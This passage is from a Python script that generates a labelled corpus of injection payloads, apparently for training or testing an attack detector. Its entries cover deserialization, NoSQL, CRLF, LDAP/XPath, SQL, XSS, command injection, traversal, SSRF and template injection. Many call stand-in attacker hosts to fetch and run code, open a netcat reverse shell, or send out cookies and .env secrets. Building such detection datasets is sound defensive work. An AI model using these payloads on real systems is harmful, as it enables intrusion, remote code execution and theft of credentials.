    ("xxe-billion-laughs", "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]><l>&c;</l>"),
    ("svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY f SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&f;</text></svg>"),
    ("yaml-python", "!!python/object/apply:os.system ['curl attacker.example/y|sh']"),
    ("yaml-python", "fitting: !!python/object/new:subprocess.check_output [['id']]"),
    ("yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("yaml-python-popen", "consignment:\n  photo: !!python/object/apply:subprocess.Popen [[\"sh\", \"-c\", \"curl attacker.example/y | sh\"]]"),
    ("pickle", "cos\nsystem\n(S'id'\ntR."),
    ("pickle-base64", "Y3Bvc2l4CnN5c3RlbQooUydjdXJsIGF0dGFja2VyLmV4YW1wbGUvcHxzaCcKdFIu"),
    ("xstream-xml-deserialization", "<sorted-set><string>BR-2041</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>sh</string><string>-c</string><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("dotnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/o\",\"autoCommit\":true}]"),
    ("fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://198.51.100.7:1099/x\",\"autoCommit\":true}"),
    ("php-unserialize", "O:8:\"Saddlery\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("php-unserialize-nested", "a:1:{s:4:\"cart\";O:15:\"ConsignmentItem\":2:{s:5:\"photo\";s:22:\"../../../../etc/passwd\";s:6:\"loader\";s:6:\"system\";}}"),
    ("node-serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
])

# ---------------------------------------------------------------- nosqli
add("nosqli", [
    ("json-ne-login", "{\"username\": \"admin\", \"password\": {\"$ne\": null}}"),
    ("json-gt", "{\"email\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("json-regex", "{\"consignor\": {\"$regex\": \"^a\"}, \"payout_account\": {\"$regex\": \".*\"}}"),
    ("json-where", "{\"$where\": \"this.role == 'owner' || sleep(5000)\"}"),
    ("json-where", "{\"sku\": \"BR-2041\", \"$where\": \"function(){return true}\"}"),
    ("json-in", "{\"login\": {\"$in\": [\"admin\", \"owner\", \"root\"]}, \"pin\": {\"$nin\": []}}"),
    ("json-exists", "{\"ticket_id\": {\"$exists\": true}}"),
    ("json-expr", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(4000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("json-or", "{\"$or\": [{\"owner\": \"me\"}, {\"owner\": {\"$ne\": \"me\"}}]}"),
    ("query-operator", "password[$ne]=x"),
    ("query-operator", "username[$regex]=^adm&password[$gt]="),
    ("query-operator", "consignor[$exists]=true"),
    ("query-operator-encoded", "pin%5B%24ne%5D=0"),
    ("string-js-injection", "Rosie'; return true; var x='"),
    ("string-js-injection", "'|| this.password.match(/^a/) || '"),
    ("string-js-sleep", "Dolly'; sleep(5000); '"),
    ("string-js-breakout", "0;return db.getCollectionNames()"),
    ("aggregate-lookup", "[{\"$lookup\": {\"from\": \"staff\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}]"),
    ("aggregate-out", "[{\"$match\": {}}, {\"$out\": \"public_listings\"}]"),
    ("mapreduce-js", "{\"mapReduce\": \"orders\", \"map\": \"function(){emit(1, db.staff.find().toArray())}\", \"reduce\": \"function(k,v){return v}\"}"),
    ("couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("elasticsearch-script", "{\"query\":{\"script\":{\"script\":\"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}}"),
    ("redis-eval", "EVAL \"return redis.call('config','set','dir','/var/www/html')\" 0"),
])

# ---------------------------------------------------------------- crlf
add("crlf", [
    ("log-forging", "Rosie\n2024-03-02 10:14:07 INFO user=owner action=refund amount=2725 status=approved"),
    ("log-forging", "ticket R-2291 closed\r\n[2024-03-02T10:15:00Z] AUDIT admin login ok from 10.0.0.2"),
    ("log-forging-encoded", "Juniper%0a127.0.0.1 - owner [02/Mar/2024:10:15:00 +0000] \"POST /admin/payouts HTTP/1.1\" 200"),
    ("log-forging-encoded", "BR-2041%0d%0aWARN stock adjusted by admin: qty=0"),
    ("log-forging-unicode", "Comet\u2028INFO payment captured order=SO-2214"),
    ("log-forging-nel", "Dolly\u0085ERROR disk full, clearing /var/lib/app"),
    ("header-set-cookie", "en-GB\r\nSet-Cookie: session=attacker; Path=/; HttpOnly"),
    ("header-set-cookie-encoded", "%0d%0aSet-Cookie:%20admin=1"),
    ("header-location", "/fit?ok=1%0d%0aLocation:%20https://attacker.example/"),
    ("response-splitting", "x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("response-splitting", "ok\r\n\r\n<html><body>Your saddle order is cancelled. Pay at https://attacker.example</body></html>"),
    ("header-cors", "https://shop.example\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("header-xss-protection", "%0D%0AX-XSS-Protection:%200%0D%0A"),
    ("double-url-crlf", "%250d%250aSet-Cookie:%20x=1"),
    ("overlong-crlf", "%c0%8d%c0%8aSet-Cookie:%20y=2"),
    ("unicode-crlf", "%E5%98%8A%E5%98%8DSet-Cookie:%20z=3"),
    ("percent-u-crlf", "%u000d%u000aLocation:%20//attacker.example"),
    ("lf-only-header", "fr\nX-Forwarded-Host: attacker.example"),
    ("cache-poisoning", "saddles\r\nX-Original-URL: /admin/export"),
    ("mail-bcc", "laura@example.com\r\nBcc: everyone@attacker.example"),
    ("mail-cc-encoded", "jo.smith@example.com%0aCc:%20list@attacker.example"),
    ("mail-subject", "Your fitting is confirmed\r\nBcc: a@attacker.example\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>Pay deposit</a>"),
    ("mail-from", "Hollybank Saddlery\nReply-To: billing@attacker.example"),
    ("mail-body-smtp", "Thanks!\r\n.\r\nMAIL FROM:<owner@example.com>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: refund\r\n\r\nclick https://attacker.example\r\n.\r\n"),
    ("smtp-header-name", "Eleanor\nTo: all-customers@example.com"),
    ("http-request-smuggling-header", "chunked\r\nTransfer-Encoding: identity"),
    ("csv-log-newline", "BR-2050\",\"0\"\n\"BR-9999\",\"999\""),
    ("sse-injection", "status ok\n\nevent: redirect\ndata: https://attacker.example/login"),
])

# ---------------------------------------------------------------- ldap-xpath
add("ldap-xpath", [
    ("ldap-wildcard", "*"),
    ("ldap-auth-bypass", "admin)(&)"),
    ("ldap-auth-bypass", "*)(uid=*))(|(uid=*"),
    ("ldap-or-injection", "Fitzgerald)(|(objectClass=*)"),
    ("ldap-attribute-leak", "jo*)(userPassword=*"),
    ("ldap-blind", "admin)(description=a*"),
    ("ldap-null-byte", "admin)%00"),
    ("ldap-encoded", "%2a%29%28%7c%28cn%3d%2a"),
    ("ldap-staff-lookup", "fitter2)(|(memberOf=cn=admins,ou=groups,dc=saddlery,dc=example)"),
    ("ldap-hex-escape-bypass", "\\2a)(objectClass=\\2a"),
    ("xpath-auth-bypass", "' or '1'='1"),
    ("xpath-auth-bypass", "x' or name()='username' or 'x'='y"),
    ("xpath-union", "BR-2041'] | //user/password | //item['"),
    ("xpath-blind-substring", "' or substring(//staff[1]/password,1,1)='a' or '"),
    ("xpath-count", "' or count(/*)=1 or '"),
    ("xpath-string-length", "Comet' and string-length(//user[1]/pin)=4 and '1'='1"),
    ("xpath-doc-oob", "' or doc('http://attacker.example/'||name(/*))='x"),
    ("xpath-comment-node", "')] | //comment() | //*[contains(.,'"),
])

# ---------------------------------------------------------------- more literals
add("sqli", [
    ("consignment-id-number", "433 AND 1=(SELECT COUNT(*) FROM staff WHERE login='owner' AND pin LIKE '1%')"),
    ("mssql-union-top", "Albion' UNION SELECT TOP 1 name, password_hash FROM sys.sql_logins--"),
    ("pg-stacked-create-role", "17.5 MW'; CREATE ROLE fitter LOGIN SUPERUSER PASSWORD 'x';--"),
    ("oracle-union-dual", "x' UNION SELECT banner, NULL FROM v$version WHERE ROWNUM=1--"),
    ("mysql-hash-comment-newline", "Bramble'#saddle\nOR 1=1#"),
    ("sqlite-boolean-glob", "BR-20' AND (SELECT password FROM staff LIMIT 1) GLOB 'a*'--"),
])
add("xss", [
    ("shipping-note-svg", "Leave in tack room <svg><g onload=alert(1)></g></svg> thanks"),
    ("chat-img-fetch", "lol my horse ate the tag <img src=x onerror=\"fetch('/api/staff').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))\">"),
    ("nameplate-attr-single", "Rosie' onclick='alert(1)' x='"),
    ("profile-website-js", "javascript://hollybank.example/%0aalert(document.cookie)"),
    ("css-import-exfil", "<style>@import url(https://attacker.example/s.css);</style>"),
    ("style-tag-breakout", "</style><script>alert(1)</script>"),
])
add("cmdi", [
    ("repair-note-subshell", "Restitch billets $(id > /var/www/html/x.txt)"),
    ("webhook-curl-arg", "https://hooks.example.com/x -d @/etc/passwd -X POST https://attacker.example/"),
    ("ping-count-injection", "4; cat /var/www/app/.env | curl -d @- attacker.example"),
    ("backtick-in-name", "Bramble `curl attacker.example/b|sh`"),
    ("windows-powershell-semicolon", "label.pdf; Start-Process calc.exe"),
    ("newline-crlf-windows", "receipt.pdf\r\ndel /q C:\\shop\\backups\\*"),
])
add("traversal", [
    ("template-name-dotdot", "emails/../../../../etc/passwd"),
])
add("ssrf", [
    ("supplier-feed-internal", "http://127.0.0.1:9090/-/reload"),
    ("logo-url-metadata-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("label-url-localhost-sub", "http://localtest.me:8080/admin"),
    ("webhook-port-scan", "https://10.0.0.1:22/"),
])
add("nosqli", [
    ("json-nin-bypass", "{\"fitter\": {\"$nin\": [\"\"]}, \"pin\": {\"$nin\": [\"\"]}}"),
    ("json-regex-options", "{\"email\": {\"$regex\": \".*@example\\\\.com\", \"$options\": \"i\"}, \"password\": {\"$ne\": \"\"}}"),
])

# ------------------------------------------------------------- templates
# Join a hand-written saddlery prefix to a hand-written payload, or apply one
# encoding to a hand-written payload. Each entry: (category, class, kind, data)
PFX = [
    "Tree MW, gullet 11cm. ",
    "Repair #R-2301: restitch billets ",
    "Consignor: H. Fitzgerald; ask £900 ",
    "Ship #SO-2218 via DPD ",
    "loose ring snaffle 5\" ",
    "Rosie (16.2hh, 580kg) ",
]
JOIN = [
    ("sqli", "prefix-union-select", "' UNION SELECT login,pass_hash,NULL FROM staff-- -"),
    ("sqli", "prefix-boolean", "' OR 'a'='a' -- "),
    ("sqli", "prefix-time-sleep", "' AND SLEEP(5) AND 'x'='x"),
    ("sqli", "prefix-stacked-pg", "'; SELECT pg_sleep(6);--"),
    ("xss", "prefix-img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("xss", "prefix-svg-onload", "<svg/onload=fetch('//attacker.example/'+document.cookie)>"),
    ("xss", "prefix-script", "<script src=https://attacker.example/x.js></script>"),
    ("cmdi", "prefix-subshell", "$(curl -s http://attacker.example/i | sh)"),
    ("cmdi", "prefix-semicolon", "; wget http://198.51.100.22/k -O /tmp/k; chmod +x /tmp/k; /tmp/k"),
    ("code", "prefix-log4shell", "${jndi:ldap://attacker.example/saddle}"),
    ("code", "prefix-jinja2", "{{ lipsum.__globals__['os'].popen('id').read() }}"),
    ("crlf", "prefix-log-forging", "\nINFO refund approved by owner amount=900"),
]
ENC = [
    ("sqli", "union-select+urlencode", "' UNION SELECT email,password FROM customers-- -"),
    ("sqli", "boolean+urlencode", "BR-2041' OR '1'='1"),
    ("xss", "script+urlencode", "<script>alert(document.domain)</script>"),
    ("xss", "img-onerror+urlencode", "\"><img src=x onerror=alert(1)>"),
    ("xss", "svg-onload+htmlentity-decimal", "<svg onload=alert(1)>"),
    ("cmdi", "semicolon+urlencode", "; cat /etc/passwd"),
    ("cmdi", "pipe-reverse+urlencode", "| nc 203.0.113.15 4444 -e /bin/sh"),
    ("traversal", "dotdot+urlencode-all", "../../../etc/passwd"),
    ("traversal", "dotdot+double-urlencode", "../../../../etc/shadow"),
    ("traversal", "windows+urlencode", "..\\..\\..\\Windows\\win.ini"),
    ("ssrf", "metadata+urlencode", "http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "loopback+urlencode", "http://127.0.0.1:8080/admin"),
    ("code", "ssti-jinja2+urlencode", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("code", "log4shell+urlencode", "${jndi:ldap://attacker.example:1389/x}"),
    ("nosqli", "ne-operator+urlencode", "password[$ne]=1"),
    ("nosqli", "where+urlencode", "{\"$where\": \"sleep(5000)\"}"),
    ("crlf", "set-cookie+urlencode", "\r\nSet-Cookie: session=attacker"),
    ("ldap-xpath", "ldap-or+urlencode", "*)(|(uid=*"),
    ("ldap-xpath", "xpath-or+urlencode", "' or '1'='1"),
]


def enc(kind, s):
    if kind.endswith("+urlencode-all"):
        return "".join("%%%02x" % b for b in s.encode("utf-8"))
    if kind.endswith("+double-urlencode"):
        return urllib.parse.quote(urllib.parse.quote(s, safe=""), safe="")
    if kind.endswith("+htmlentity-decimal"):
        return "".join("&#%d;" % ord(c) for c in s)
    if kind.endswith("+urlencode"):
        return urllib.parse.quote(s, safe="")
    raise ValueError(kind)


def build():
    rng = random.Random(SEED)
    rows = [(c, k, v) for c, k, v in L]
    computed = []
    for c, k, p in JOIN:
        computed.append((c, k, rng.choice(PFX) + p))
    for c, k, p in ENC:
        computed.append((c, k, enc(k, p)))
    rows += computed
    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    rows.sort(key=lambda r: order.index(r[0]))  # stable: literals first within a category
    out = []
    seen = set()
    for i, (c, k, v) in enumerate(rows, 1):
        assert v and v not in seen, v
        seen.add(v)
        out.append({"id": "%s-%05d" % (PREFIX, i), "category": c, "class": k, "label": "attack", "value": v})
    return out, len(L), len(computed)


def main():
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    rows, _, _ = build()
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
